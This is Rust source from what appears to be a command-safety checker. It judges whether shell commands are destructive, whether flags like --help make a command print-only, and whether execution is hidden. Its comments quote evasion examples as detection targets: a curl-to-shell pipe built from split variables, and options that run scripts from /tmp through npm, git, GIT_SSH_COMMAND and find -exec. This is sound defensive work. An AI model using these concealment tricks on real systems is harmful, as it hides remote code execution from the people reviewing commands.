/// `<destroy-verb>`: a `**` excuses no verb (`bw ** version` says nothing of `bw delete item X
/// version`, where `version` is an operand of the delete), while `gcloud ** delete --help`
/// names the verb it covers.
fn names_destroy_verbs(
    destructive: pattern::StageRef<'_>,
    safe: pattern::StageRef<'_>,
    words: &[Word],
    head_words: &[usize],
    classes: &[u32],
) -> bool {
    let verb_class = |st: pattern::StageRef<'_>| {
        st.targets().any(
            |t| matches!(t, pattern::Target::Exact(e) if crate::paths::names_destroy_verb_class(e)),
        )
    };
    // A safe stage that names the class itself speaks of destroy verbs (`toolx <destroy-verb>
    // --dry-run **`).
    !verb_class(destructive)
        || verb_class(safe)
        || words.iter().enumerate().all(|(i, w)| {
            w.kind != WordKind::Operand
                || head_words.contains(&i)
                || !crate::paths::is_destroy_verb(classes.get(i).copied().unwrap_or(0))
                || safe
                    .targets()
                    .any(|t| matches!(t, pattern::Target::Exact(x) if x == w.text))
        })
}

/// Whether `--help` comes after word `head_end` with only options between (before any `--` or
/// operand, an option's value too): then the tool reads it as its own, as cobra, click, clap,
/// argparse and getopt_long CLIs do, where after an operand it may be an argument of a command
/// the tool runs (`docker run -v /:/host IMAGE --help` runs the image's entrypoint).
fn asks_help_after(words: &[Word], head_end: usize) -> bool {
    asks_print_only_after(words, head_end, ["--help"].into_iter())
}

/// Whether one of `options` comes after word `head_end` with only options between (see
/// [`asks_help_after`]).
fn asks_print_only_after<'a>(
    words: &[Word],
    head_end: usize,
    options: impl Iterator<Item = &'a str> + Clone,
) -> bool {
    for w in words.iter().skip(head_end + 1) {
        match w.kind {
            WordKind::Flag if w.text == "--" => return false,
            WordKind::Flag if options.clone().any(|o| o == w.text) => return true,
            WordKind::Flag | WordKind::Redirect => {}
            _ => return false,
        }
    }
    false
}

/// Whether a safe stage is a program asked only to print its version or usage (`dotnet
/// --version`, `php -v`, `terraform -help`, `ffmpeg -hide_banner -version`): a name, no
/// subcommand or operand, and a print-only option among its flags.
fn print_only_stage(st: pattern::StageRef<'_>) -> bool {
    st.name().is_some()
        && st.head().len() == 0
        && st.targets().len() == 0
        && st.flags().any(print_only)
}

/// A print-only option: the shared list, and terraform's `-help`.
fn print_only(f: &str) -> bool {
    f == "-help" || terraphim_shell_vocab::PRINT_ONLY_OPTIONS.contains(&f)
}

/// A print-only option that asks for usage (`--help`, `-h`, `-help`), not the version.
fn is_help(f: &str) -> bool {
    matches!(f, "--help" | "-h" | "-help")
}

/// Whether a safe pattern's flags cover destructive flag `f`: it names `f` itself, or, for a
/// prefix flag (`--force*`), every flag of the command that starts with the prefix (the safe
/// `git push --force-with-lease` covers `--force*` on `git push --force-with-lease`, not on
/// `git push --force-with-lease --force-unknown`).
fn covers_flag<'a>(
    f: &str,
    safe: impl Iterator<Item = &'a str> + Clone,
    words: &[crate::canon::Word],
) -> bool {
    if safe.clone().any(|g| g == f) {
        return true;
    }
    let Some(prefix) = pattern::prefix_flag(f) else {
        return false;
    };
    words
        .iter()
        .filter(|w| w.kind == crate::canon::WordKind::Flag && w.text.starts_with(prefix))
        .all(|w| safe.clone().any(|g| g == w.text))
}

/// The program in a temporary directory that `cmd`, code another program runs from one of its
/// options (`npm --script-shell=/tmp/x`, `git -c diff.external=/tmp/d.sh`, `GIT_SSH_COMMAND='sh
/// /tmp/x.sh'`), runs: its name as written, or the script a shell it names is given.
fn temp_program_in_option(cmd: &SimpleCommand) -> Option<&str> {
    // find's `-exec`/`-execdir`/`-ok` name the program it starts for what it finds: an option
    // too (`find . -maxdepth 0 -exec sh /tmp/p.sh \;`, also through `sh -c` there).
    let find_exec = cmd.layers.iter().any(|l| {
        matches!(
            l.as_str(),
            "find -exec" | "find -execdir" | "find -ok" | "find -okdir"
        )
    });
    if !cmd.option_code && !find_exec {
        return None;
    }
    super::option_code::temp_program_run(cmd)
}

/// Whether a stage of `cmd`'s pipeline runs a program whose name the line assembles from pieces
/// (`a=cu; b=rl; $a$b URL | sh`, `$(printf %s c u r l)`, `c=ba; c+=sh; ... | $c`): written as
/// an expansion, judged as a known program only through the values the line spells. Such a
/// pipe into a shell is hidden from whoever reads the line, like one in an option's value.
fn concealed_stage(cmd: &SimpleCommand, cmds: &[SimpleCommand]) -> bool {
    let Some((pipe, _)) = cmd.pipeline else {
        return false;
    };
    cmds.iter().any(|c| {
        c.pipeline.is_some_and(|(p, _)| p == pipe)
            && c.layers.last().is_some_and(|l| l == "expanded")
            && cmds.iter().any(|o| {
                o.text == c.text
                    && o.pipeline == c.pipeline
                    && o.findings.contains(&crate::parse::Finding::DynamicName)
            })
    })
}

/// Whether a simple command runs inside a command or process substitution (`$(..)`, `<(..)`).
fn in_substitution(cmd: &SimpleCommand) -> bool {
    cmd.layers.iter().any(|l| l == "$(...)" || l == "<(...)")
}

fn match_reason(m: &Match, kind: &str) -> String {
    match &m.reason {
        Some(r) => format!("{r} ({kind}: {})", m.concept),
        None => format!("matched {kind} pattern `{}` ({})", m.pattern, m.concept),
    }
}
